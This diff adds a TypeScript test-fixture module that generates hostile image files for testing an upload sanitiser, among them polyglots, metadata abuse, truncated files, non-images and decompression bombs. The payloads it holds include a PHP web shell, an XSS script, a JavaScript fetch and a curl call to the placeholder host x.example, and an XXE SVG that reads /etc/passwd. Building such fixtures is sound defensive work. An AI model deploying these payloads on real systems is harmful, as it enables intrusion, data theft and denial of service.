@@ -1,0 +1,154 @@
+import { deflateSync, gzipSync } from 'node:zlib'
+import { aPicture, aPlainPicture, KINDS } from './a-picture.ts'
+import { bombs } from './bombs.ts'
+import { jpegWith, pngChunk, pngWith, webpWith, withRemark } from './with-payload.ts'
+
+/** Stands in every payload: no stored byte may spell it. */
+export const MARK = 'EVIL-7f3a91c0'
+
+export type Verdict = 'stored' | 'invalid_file_type' | 'damaged_picture' | 'too_many_pixels'
+export type HostilePicture = { what: string; bytes: Buffer; verdict: Verdict }
+
+/** More than a hundred files that mean no good, each with what has to become of it. Made anew for every run. */
+export async function hostilePictures(): Promise<HostilePicture[]> {
+  return [
+    ...(await polyglots()),
+    ...(await withMetadata()),
+    ...(await truncated()),
+    ...(await notPictures()),
+    ...(await bombs()),
+  ]
+}
+
+const PAYLOADS: [what: string, payload: Buffer][] = [
+  ['HTML', Buffer.from(`<!doctype html><html><script>alert('${MARK}')</script></html>`)],
+  ['JavaScript', Buffer.from(`*/=1;fetch('//x.example/${MARK}');/*`)],
+  ['PHP', Buffer.from(`<?php system($_GET['${MARK}']); ?>`)],
+  ['PHP archive', Buffer.from(`<?php __HALT_COMPILER(); ?>\r\n${MARK}`)],
+  ['SVG', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${MARK}')"/>`)],
+  [
+    'ZIP',
+    Buffer.concat([
+      Buffer.from('PK\x03\x04', 'latin1'),
+      Buffer.from(MARK),
+      Buffer.from('PK\x05\x06', 'latin1'),
+    ]),
+  ],
+  ['PDF', Buffer.from(`%PDF-1.7\n1 0 obj<</JS(${MARK})>>endobj\n%%EOF`)],
+  ['shell', Buffer.from(`\n#!/bin/sh\ncurl x.example/${MARK}\n`)],
+]
+
+async function polyglots() {
+  const made: HostilePicture[] = []
+  for (const kind of KINDS) {
+    const picture = await aPicture(kind)
+    for (const [what, payload] of PAYLOADS) {
+      made.push({
+        what: `${what} after a ${kind}`,
+        bytes: Buffer.concat([picture, payload]),
+        verdict: 'stored',
+      })
+      made.push({
+        what: `${what} in a remark of a ${kind}`,
+        bytes: withRemark(kind, picture, payload),
+        verdict: 'stored',
+      })
+    }
+    const [, html = Buffer.alloc(0)] = PAYLOADS[0] ?? []
+    made.push({
+      what: `HTML before a ${kind}`,
+      bytes: Buffer.concat([html, picture]),
+      verdict: 'invalid_file_type',
+    })
+  }
+  return made
+}
+
+/** Exif with a place (52° 31' N) and the mark as its description. */
+const EXIF = Buffer.concat([
+  Buffer.from('II*\0\x08\0\0\0', 'latin1'),
+  Buffer.from('0200', 'hex'),
+  Buffer.from('0e010200', 'hex'),
+  Buffer.from([MARK.length + 1, 0, 0, 0, 56, 0, 0, 0]),
+  Buffer.from('2588040001000000', 'hex'),
+  Buffer.from([38, 0, 0, 0, 0, 0, 0, 0]),
+  Buffer.from('0100', 'hex'),
+  Buffer.from('0100020002000000', 'hex'),
+  Buffer.from('4e00000000000000', 'hex'),
+  Buffer.from(`${MARK}\0`),
+])
+
+async function withMetadata(): Promise<HostilePicture[]> {
+  const [jpeg, png, webp] = [await aPicture('jpeg'), await aPicture('png'), await aPicture('webp')]
+  const exif = Buffer.concat([Buffer.from('Exif\0\0'), EXIF])
+  const xmp = Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${MARK}</x:xmpmeta>`)
+  const unpacksTo500MB = deflateSync(Buffer.alloc(500_000_000), { level: 9 })
+  const remarks = Buffer.concat(Array(200_000).fill(pngChunk('tEXt', Buffer.from(`a\0${MARK}`))))
+  const profilePart = Buffer.concat([
+    Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'),
+    Buffer.alloc(65_000, MARK),
+  ])
+  const hugeProfile = Array.from({ length: 60 }, () => profilePart).reduce(
+    (whole, part) => jpegWith(whole, 0xe2, part),
+    jpeg,
+  )
+  return [
+    { what: 'a JPEG that says where it was taken', bytes: jpegWith(jpeg, 0xe1, exif), verdict: 'stored' },
+    { what: 'a PNG that says where it was taken', bytes: pngWith(png, 'eXIf', EXIF), verdict: 'stored' },
+    { what: 'a WebP that says where it was taken', bytes: webpWith(webp, 'EXIF', EXIF), verdict: 'stored' },
+    { what: 'a JPEG with XMP', bytes: jpegWith(jpeg, 0xe1, xmp), verdict: 'stored' },
+    { what: 'a JPEG with a colour profile of 4 MB', bytes: hugeProfile, verdict: 'stored' },
+    {
+      what: 'a PNG with a colour profile that unpacks to 500 MB',
+      bytes: pngWith(png, 'iCCP', Buffer.concat([Buffer.from('a\0\0'), unpacksTo500MB])),
+      verdict: 'stored',
+    },
+    {
+      what: 'a PNG with a remark that unpacks to 500 MB',
+      bytes: pngWith(png, 'zTXt', Buffer.concat([Buffer.from('a\0\0'), unpacksTo500MB])),
+      verdict: 'stored',
+    },
+    {
+      what: 'a PNG with 130,000 remarks',
+      bytes: Buffer.concat([png.subarray(0, 33), remarks.subarray(0, 130_000 * 27), png.subarray(33)]),
+      verdict: 'stored',
+    },
+  ]
+}
+
+async function truncated() {
+  const made: HostilePicture[] = []
+  for (const kind of KINDS) {
+    const picture = await aPicture(kind)
+    for (const share of [0.03, 0.5, 0.95]) {
+      const bytes = picture.subarray(0, Math.floor(picture.length * share))
+      made.push({ what: `the first ${share * 100} % of a ${kind}`, bytes, verdict: 'damaged_picture' })
+    }
+  }
+  return made
+}
+
+async function notPictures(): Promise<HostilePicture[]> {
+  const svg = Buffer.from(
+    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>
+    <svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&x;${MARK}</text></svg>`,
+  )
+  const files: [what: string, bytes: Buffer][] = [
+    ['an SVG', svg],
+    ['a packed SVG', gzipSync(svg)],
+    ['a TIFF', await aPlainPicture('tiff', 20, 20)],
+    ['an AVIF', await aPlainPicture('avif', 20, 20)],
+    ['a BMP', Buffer.concat([Buffer.from('BM'), Buffer.alloc(200)])],
+    ['an icon', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(200)])],
+    ['a PDF', Buffer.from('%PDF-1.7\n%%EOF')],
+    ['a portable pixmap', Buffer.from('P6 2 2 255\n000000000000')],
+    ['an HDR picture', Buffer.from('#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 1 +X 1\n0000')],
+    ['an EPS', Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n')],
+    ['a Windows program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)])],
+    ['a RIFF that is sound', Buffer.from('RIFF\x24\0\0\0WAVEfmt ', 'latin1')],
+    ['nothing but zeros', Buffer.alloc(1000)],
+    ['an empty file', Buffer.alloc(0)],
+    ['a single byte', Buffer.from([0xff])],
+  ]
+  return files.map(([what, bytes]) => ({ what, bytes, verdict: 'invalid_file_type' }))
+}
